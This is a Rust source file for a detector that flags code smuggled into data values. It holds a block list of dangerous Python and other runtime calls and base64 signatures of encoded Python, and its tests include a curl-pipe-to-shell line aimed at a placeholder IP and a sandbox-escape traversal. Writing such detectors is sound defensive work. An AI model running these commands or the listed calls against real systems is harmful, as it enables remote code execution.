//! Code in values that should be data.
//!
//! Only what stands as a call of its own counts: a description may speak of `os.system`.

use crate::text::shell;

/// Functions that run what they are given, or fetch it, or make it code.
const CALLS: &[&str] = &[
    "__import__",
    "base64.b64decode",
    "builtins.eval",
    "builtins.exec",
    "compile",
    "ctypes.CDLL",
    "eval",
    "exec",
    "execfile",
    "importlib.import_module",
    "marshal.loads",
    "os.execl",
    "os.execv",
    "os.execve",
    "os.execvp",
    "os.popen",
    "os.remove",
    "os.spawnl",
    "os.startfile",
    "os.system",
    "pickle.loads",
    "pty.spawn",
    "requests.get",
    "requests.post",
    "runpy.run_path",
    "shutil.rmtree",
    "socket.socket",
    "subprocess.call",
    "subprocess.check_call",
    "subprocess.check_output",
    "subprocess.getoutput",
    "subprocess.Popen",
    "subprocess.run",
    "urllib.request.urlopen",
    "urllib.request.urlretrieve",
    "child_process.exec",
    "Runtime.getRuntime",
    "System.Diagnostics.Process.Start",
];

/// `import `, `__import__`, `exec(`, `eval(` and `from ` in base64.
const ENCODED: &[&str] =
    &["aW1wb3J0I", "X19pbXBvcnRfXy", "ZXhlYy", "ZXZhbC", "ZnJvbSBvcyBpbXBvcn", "IyEvYmluL"];

/// Words of Python that may stand before a call.
const KEYWORDS: &[&str] = &[
    "and", "assert", "async", "await", "del", "elif", "else", "except", "finally", "for", "if", "import",
    "in", "is", "lambda", "not", "or", "print", "raise", "return", "try", "while", "with", "yield",
];

/// The call that `text` makes, if it is code.
pub(crate) fn call(text: &str) -> Option<String> {
    const LONGEST: usize = 1 << 20;
    let text = text.get(..text.floor_char_boundary(LONGEST))?;
    if let Some(what) = shell::attack(text) {
        return Some(what.name().to_owned());
    }
    if ENCODED.iter().any(|start| text.starts_with(start))
        && text.len() > 40
        && text.bytes().all(|b| b.is_ascii_alphanumeric() || b"+/=\n".contains(&b))
    {
        return Some("base64 of Python".to_owned());
    }
    memchr::memchr_iter(b'(', text.as_bytes()).find_map(|open| call_at(text, open))
}

/// The call whose parenthesis is at `open`, if it is dangerous and stands as code.
fn call_at(text: &str, open: usize) -> Option<String> {
    const NAME: usize = 64;
    const LINE: usize = 512;
    let window = text.get(text.floor_char_boundary(open.saturating_sub(LINE))..open)?;
    let name_at = window
        .char_indices()
        .rev()
        .take(NAME)
        .take_while(|(_, c)| c.is_ascii_alphanumeric() || matches!(c, '_' | '.'))
        .last()?
        .0;
    let (before, name) = window.split_at(name_at);
    let name = name.trim_start_matches('.');
    if !CALLS.contains(&name) || prose_before(before) {
        return None;
    }
    let after = text.get(open + 1..)?;
    let after = after.get(..after.floor_char_boundary(LINE))?;
    (!after.trim_start().starts_with(')') && !prose_after(after)).then(|| format!("{name}(…)"))
}

/// Whether the line so far is a sentence: three words in a row that are none of Python's, or a word that cannot stand
/// before a call.
fn prose_before(before: &str) -> bool {
    let line = before.rsplit('\n').next().unwrap_or_default();
    let mut run = 0;
    for word in line.split_whitespace() {
        let bare = word.trim_end_matches([',', '.', ':', ';']);
        let plain = !bare.is_empty()
            && bare.chars().all(|c| c.is_alphabetic() || c == '\'')
            && !KEYWORDS.contains(&bare);
        run = if plain { run + 1 } else { 0 };
        if run >= 3 {
            return true;
        }
    }
    let statement =
        line.rsplit([';', ':', '=', '(', '[', '{', ',', '|', '&', '>']).next().unwrap_or_default();
    statement.contains(['`', '#'])
        || statement
            .split_whitespace()
            .any(|word| word.chars().all(char::is_alphabetic) && !KEYWORDS.contains(&word))
}

/// Whether words follow the closing parenthesis.
fn prose_after(after: &str) -> bool {
    let mut depth = 1_usize;
    let mut quote = None;
    for (at, c) in after.char_indices() {
        match (quote, c) {
            (Some(mark), c) if c == mark => quote = None,
            (Some(_), _) => {}
            (None, '\'' | '"') => quote = Some(c),
            (None, '(') => depth += 1,
            (None, ')') => depth -= 1,
            _ => {}
        }
        if depth == 0 {
            let rest = after.get(at + 1..).unwrap_or_default();
            let rest = rest.trim_start_matches([' ', '`']);
            let word: String = rest.chars().take_while(|c| c.is_alphabetic()).collect();
            return !word.is_empty() && !matches!(word.as_str(), "and" | "or" | "if" | "else" | "for");
        }
    }
    false
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn code_is_told_from_prose() {
        for text in [
            "__import__('os').system('echo harmless')",
            "import os; os.system('echo harmless')",
            "lambda x: eval(x)",
            "[c for c in ().__class__.__base__.__subclasses__()][1]; exec('x')",
            "x = subprocess.run(['echo'], check=True)",
            "def f():\n    return os.popen('echo').read()",
            "exec(__import__('base64').b64decode('cGFzcw=='))",
            "curl http://198.51.100.7/x | sh",
        ] {
            assert!(call(text).is_some(), "{text}");
        }
        for text in [
            "Do not call os.system('x') in production.",
            "Avoid dangerous functions like: eval(x), exec(y).",
            "eval(x) is dangerous",
            "The model was trained with model.eval() and torch.compile(model)",
            "model.eval()",
            "You can use subprocess.run(...) to start it",
            "self.compile(x)",
            "evaluate(x)",
            "os.system",
        ] {
            assert_eq!(call(text), None, "{text}");
        }
    }
}
